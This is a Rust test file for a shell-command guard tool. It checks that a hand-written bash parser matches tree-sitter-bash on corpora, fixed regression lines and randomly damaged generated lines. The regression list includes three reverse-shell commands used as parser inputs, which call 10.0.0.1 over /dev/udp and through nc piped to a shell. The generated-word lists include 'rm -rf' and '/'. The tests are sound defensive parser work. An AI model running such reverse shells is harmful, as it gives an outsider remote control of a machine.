//! The hand parser against tree-sitter-bash (issue 13): wherever the hand
//! parser accepts a line, its tree must equal tree-sitter's converted tree
//! node for node. Run on the depth tables, the peers' corpora, the bench
//! lines, and generated lines with random damage; each corpus prints its
//! acceptance rate.

use proptest::prelude::*;
use proptest::test_runner::{TestCaseError, TestRunner};
use serde_json::Value;
use std::cell::Cell;
use std::path::PathBuf;
use ward_core::shell::syntax;

#[allow(dead_code)]
mod lines {
    include!("../../benches/common/lines.rs");
}

/// Checks one line; returns whether the hand parser accepted it.
fn agrees(line: &str) -> Result<bool, String> {
    let Some(hand) = syntax::parse_hand(line) else {
        return Ok(false);
    };
    let ts = syntax::parse_tree_sitter(line).ok_or("tree-sitter gave no tree")?;
    if hand.root_node().has_error() {
        return Err(format!("the hand tree has an error: {line:?}"));
    }
    if hand.root_node() != ts.root_node() {
        return Err(format!(
            "{line:?}\n  hand: {}\n  ts:   {}",
            hand.root_node().to_sexp(),
            ts.root_node().to_sexp()
        ));
    }
    Ok(true)
}

/// Checks every line; prints and returns the share the hand parser took.
fn check_all<'a>(name: &str, lines: impl IntoIterator<Item = &'a str>) -> f64 {
    let (mut total, mut taken) = (0usize, 0usize);
    let mut wrong = Vec::new();
    for line in lines {
        total += 1;
        match agrees(line) {
            Ok(true) => taken += 1,
            Ok(false) => {}
            Err(e) => wrong.push(e),
        }
    }
    assert!(
        wrong.is_empty(),
        "{name}: {} trees differ:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
    let rate = taken as f64 / total.max(1) as f64;
    eprintln!(
        "{name}: hand parser accepted {taken} of {total} lines ({:.1}%)",
        rate * 100.0
    );
    rate
}

fn depth_lines() -> Vec<String> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/it/depth");
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "txt") {
            continue;
        }
        for line in std::fs::read_to_string(&path).unwrap().lines() {
            if line.trim().is_empty() || line.starts_with('#') {
                continue;
            }
            if let Some(cmd) = line.splitn(3, '\t').nth(2) {
                out.push(cmd.replace("\\n", "\n"));
            }
        }
    }
    out
}

#[test]
fn hand_trees_equal_tree_sitter_on_the_depth_tables() {
    let lines = depth_lines();
    assert!(lines.len() > 1000);
    let rate = check_all("depth tables", lines.iter().map(String::as_str));
    assert!(rate > 0.6, "acceptance fell to {rate}");
}

#[test]
fn hand_trees_equal_tree_sitter_on_the_guard_corpora() {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/guard-corpus");
    if !dir.exists() {
        assert!(
            std::env::var_os("CI").is_none(),
            "../shared/data/guard-corpus is not present under CI"
        );
        eprintln!("skipped: ../shared/data/guard-corpus is not present");
        return;
    }
    for name in ["dcg_cases.jsonl", "shellfirm_cases.jsonl"] {
        let commands: Vec<String> = std::fs::read_to_string(dir.join(name))
            .unwrap()
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .filter_map(|v| v.get("command")?.as_str().map(str::to_owned))
            .collect();
        assert!(commands.len() > 500, "{name}: {} rows", commands.len());
        let rate = check_all(name, commands.iter().map(String::as_str));
        assert!(rate > 0.6, "{name}: acceptance fell to {rate}");
    }
}

#[test]
fn hand_parser_takes_every_bench_line_as_tree_sitter_reads_it() {
    let long = [
        lines::four_kb_line(),
        lines::hidden_line(),
        lines::plain_line(),
    ];
    for line in &long {
        assert_eq!(agrees(line), Ok(true), "{line}");
    }
    for (name, line) in lines::four_kb_shapes() {
        assert!(line.len() >= 4000, "{name}: {} bytes", line.len());
        // The hand parser leaves here-docs to tree-sitter.
        assert_eq!(agrees(&line), Ok(name != "heredoc"), "{name}");
    }
    let all = lines::COMMANDS
        .iter()
        .chain(lines::FLOW)
        .chain(lines::HIDDEN)
        .copied();
    check_all("bench lines", all);
}

/// Lines the subset must take, each checked against tree-sitter.
#[test]
fn hand_parser_takes_the_everyday_shapes() {
    let taken = [
        "ls",
        "  ls -la  \n",
        "a && b || c; d | e |& f &",
        "X=1; Y=a$(b)c Z= cmd \"$X\" ${Y} $1 $@ \"${Z}x\"",
        "X=1 Y=2",
        "2>/dev/null cmd >> f 2>&1 &> g >| h < i >&2",
        "(a; b) > f; { c; d; } 2>&1 | e",
        "for i in 1 2 3; do ./job $i & done; wait",
        "for f in a b\ndo\n  echo \"$f\"\ndone",
        "while read l; do echo \"$l\"; done < f",
        "until false; do a; done",
        "while :; do ./worker & done",
        "if a; then b; elif c && d; then e; else f; fi",
        "echo --opt=val -o\"x\" -o'y' a=b 'it''s' \"a\\\"b\" -1 08 1.5",
        "echo é ü=1 \"ß\" 'ø'",
        "fly secrets unset MY_SECRET; echo export local",
        "echo \"$x $y\" \" \" \" $(a)\" \"${x}\t${y}\" $x$y \"$d\"/$f",
        "git commit -m \"fix: x\n\n- one\n  - two \n\" \" \n b\" \"$x\n$y\"",
        "#!/bin/sh\n# c\nls # d\nfor i in a; do # e\n  b # f\ndone # g\na &&\n# h\nb",
    ];
    for line in taken {
        assert_eq!(agrees(line), Ok(true), "{line:?}");
    }
}

/// Shapes the subset declines on purpose (tree-sitter reads them oddly or
/// they need more grammar than the subset holds).
#[test]
fn hand_parser_declines_what_it_does_not_hold() {
    let declined = [
        "",
        "   ",
        "cat <<EOF\nx\nEOF",
        "echo a > f b",
        "echo {a,b} [x] !x",
        "echo `ls`",
        "echo $((1+2)) ${x:-y} $'a' $\"a\"",
        "case x in a) b;; esac",
        "[[ -f x ]]",
        "export X=1",
        "X=1 unset Y",
        "a \\\nb",
        "X=(a b)",
        "X+=1",
        "a;;b",
        "é=1 cmd",
        "f() { a; }",
    ];
    for line in declined {
        assert!(syntax::parse_hand(line).is_none(), "{line:?}");
    }
}

/// Nesting past `MAX_DEPTH` is declined (tree-sitter then reads it); long
/// flat lines are read without recursion.
#[test]
fn hand_parser_bounds_nesting_and_reads_long_flat_lines() {
    let deep = format!("{}x{}", "echo $(".repeat(200), ")".repeat(200));
    assert!(syntax::parse_hand(&deep).is_none());
    let shallow = format!("{}x{}", "echo $(".repeat(10), ")".repeat(10));
    assert_eq!(agrees(&shallow), Ok(true));
    let flat = "a && b | c; ".repeat(20_000);
    let tree = syntax::parse_hand(&flat).expect("a long flat line is in the subset");
    assert_eq!(tree.root_node().named_child_count(), 20_000);
}

/// Lines where the hand parser once built a tree tree-sitter does not
/// (found by the generated lines below): each must now agree or decline.
#[test]
fn hand_parser_agrees_where_it_once_differed() {
    let lines = [
        // Found by the `shell_differential` fuzz target.
        "for%",
        // Found by the generated-lines property test.
        "while( rm;) do rm\ndone",
        "if(true) then rm; fi",
        "while (~ $z $(b c) > f); do (~ #$z $(b c) > f)\n)done",
        "echo \"$(if A= rm; then A= rm; elif( a;) then b; else A= rm; fi)\"",
        "for i in 1 $x; do( { ./x ls; };) done",
        "for i in 1 $x; do< ~ <rm $(b c) ls > f; done",
        "0>a q",
        "0> 3 q",
        "{ (A= l=s # c\n~); }",
        "A=1 B=2 # c\nls",
        "if a; then b; elif a; then b; #else c;\n fi",
        "if a; then b; else c; # d\n fi",
        "(ls '' a'b' - 2>&1)",
        "cat -  2>/dev/null",
        "ls -\tx",
        ":",
        "while :; do ./worker & done",
        ": > f",
        "{ <ls <$(b c) $(b c) 2>/dev/null; }",
        "<a <b c 2>f",
        "1%",
        "1@6~",
        "$33$$",
        "_=_M",
        "$11\t\t022222>1",
        "ls ls; wh#ile < ./x",
        "\"$z  X=1  \"d $x\" \" ./x  $z  ls",
        "echo \"$x $y\" \" \"",
        "ls'q s'lslsfor'q s'$z-la",
        "ls'q s'lslsfor$z$z-la",
        "ls&>lsY=$(a)ls$1--o=v",
        "ls'q s'$1",
        "-1\\\tls\tls",
        "d\n\\one",
        "while'q s'",
        "Y=$(a=)",
        "a$(b)\\c\tY=$(a)\t-1",
        ">\\  'q s'  ./x",
        "2>&1\tls\t$zé\t-1",
        "- -o=v  -la",
        "ls == $z",
        "~ ./x --o=v ls ls | ./x ls |é || $z",
        "a | b | c && d",
        "Z= X=1\n ls",
        "X=1 Y=2\nls",
        "echo \"$(~|rm|~ >f)\"",
        "if ~; then ~; fi && ~|rm | rm\nrm > f",
        "echo \"$(~ && rm >f|ls | rm > f)\"",
        "(a |& b |& c ls\nA= ./x ls >f)",
        "rm >f|A=$(b) <'q s' a.sh ''",
        "sh -i >& /dev/udp/10.0.0.1/53 0>&1",
        "nc -l 9001 0</tmp/p | /bin/bash 1>/tmp/p",
        "mknod /tmp/b p && /bin/sh 0</tmp/b | nc 10.0.0.1 4444 1>/tmp/b",
        "x=1 > f",
        "echo \"$(a | 'q s' \"\\ $(b) \")\"",
        "('q s' rm \"$x\\ $y\" $x$y)",
    ];
    for line in lines {
        assert!(agrees(line).is_ok(), "{}", agrees(line).unwrap_err());
    }
}

/// Words the generated lines are built from.
const WORDS: &[&str] = &[
    "ls",
    "-la",
    "rm",
    "-rf",
    "~",
    "/",
    "./x",
    "a.sh",
    "-1",
    "20",
    "--o=v",
    "'q s'",
    "\"d $x\"",
    "\"${y}\"",
    "$z",
    "${w}",
    "$1",
    "$?",
    "$(b c)",
    "a$(b)c",
    "é",
    "\"$x $y\"",
    "\" $(b) \"",
    "$x$y",
    "'q'$z",
    "\"$d\"/$f",
    "\"a\n  b \n\"",
    "\" \n$x\n \"",
    "unset",
    "export",
    "local",
    "x=1",
    "\"a\\\"b\"",
    "''",
    "\"\"",
    "a'b'",
    "-o\"x\"",
    "done",
    "in",
    "$@",
];

/// Redirections, prefixes and joiners.
const REDIRECTS: &[&str] = &[
    ">f",
    "> f",
    ">> f",
    "< f",
    "2>&1",
    "2>/dev/null",
    "&> f",
    ">&2",
    ">| f",
];
const JOINERS: &[&str] = &[
    " | ",
    " && ",
    " || ",
    "; ",
    " & ",
    "\n",
    ";",
    "|",
    " |& ",
    " # c\n",
    ";# c\n",
    " &&\n# c\n",
];

/// One simple command: maybe an assignment, a name, arguments, maybe a
/// redirection.
fn command() -> impl Strategy<Value = String> {
    (
        proptest::option::weighted(0.2, "[A-Z]=(1|a|\\$\\(b\\))?"),
        proptest::sample::select(&WORDS[..12]),
        proptest::collection::vec(proptest::sample::select(WORDS), 0..4),
        proptest::option::weighted(0.25, proptest::sample::select(REDIRECTS)),
    )
        .prop_map(|(assign, name, args, redirect)| {
            let mut parts: Vec<String> = assign.into_iter().collect();
            parts.push(name.to_owned());
            parts.extend(args.iter().map(|a| (*a).to_owned()));
            parts.extend(redirect.map(str::to_owned));
            parts.join(" ")
        })
}

/// Commands joined into lists, pipelines and compound statements.
fn statement() -> impl Strategy<Value = String> {
    let joined = proptest::collection::vec((command(), proptest::sample::select(JOINERS)), 1..5)
        .prop_map(|parts| {
            let mut line = String::new();
            for (i, (cmd, join)) in parts.iter().enumerate() {
                if i > 0 {
                    line.push_str(join);
                }
                line.push_str(cmd);
            }
            line
        });
    joined.prop_recursive(3, 24, 4, |inner| {
        prop_oneof![
            inner.clone().prop_map(|s| format!("({s})")),
            inner.clone().prop_map(|s| format!("{{ {s}; }}")),
            inner.clone().prop_map(|s| format!("echo \"$({s})\"")),
            inner
                .clone()
                .prop_map(|s| format!("for i in 1 $x; do {s}; done")),
            inner
                .clone()
                .prop_map(|s| format!("while {s}; do {s}\ndone")),
            inner
                .clone()
                .prop_map(|s| format!("if {s}; then {s}; elif a; then b; else {s}; fi")),
            (inner.clone(), inner).prop_map(|(a, b)| format!("{a} && {b} > f")),
        ]
    })
}

/// A generated line, then a few random bytes inserted anywhere.
fn line_strategy() -> impl Strategy<Value = String> {
    let damage = proptest::collection::vec(
        (
            any::<prop::sample::Index>(),
            proptest::sample::select(vec![
                "'", "\"", "$", "\\", "(", ")", "`", "#", "\n", "é", "{", "}", " ", ";", "=", "|",
                "&", "<", ">", "-", "1",
            ]),
        ),
        0..3,
    );
    (statement(), damage).prop_map(|(mut line, damage)| {
        for (at, byte) in damage {
            let mut i = at.index(line.len() + 1);
            while !line.is_char_boundary(i) {
                i -= 1;
            }
            line.insert_str(i, byte);
        }
        line
    })
}

/// Generated lines, damaged at random: the hand parser never panics, and
/// its tree equals tree-sitter's whenever it accepts. `SYNTAX_CASES` sets
/// how many lines (4,000 by default).
#[test]
fn hand_trees_equal_tree_sitter_on_generated_lines() {
    let cases = std::env::var("SYNTAX_CASES")
        .ok()
        .and_then(|n| n.parse().ok())
        .unwrap_or(4000);
    let config = ProptestConfig {
        cases,
        failure_persistence: None,
        ..ProptestConfig::default()
    };
    let mut runner = TestRunner::new(config);
    let taken = Cell::new(0u32);
    let result = runner.run(&line_strategy(), |line| match agrees(&line) {
        Ok(accepted) => {
            taken.set(taken.get() + u32::from(accepted));
            Ok(())
        }
        Err(e) => Err(TestCaseError::fail(e)),
    });
    if let Err(e) = result {
        panic!("{e}");
    }
    let rate = f64::from(taken.get()) / f64::from(cases);
    eprintln!(
        "generated lines: hand parser accepted {} of {cases} ({:.1}%)",
        taken.get(),
        rate * 100.0
    );
    assert!(
        rate > 0.05,
        "generated lines are almost all declined: {rate}"
    );
}
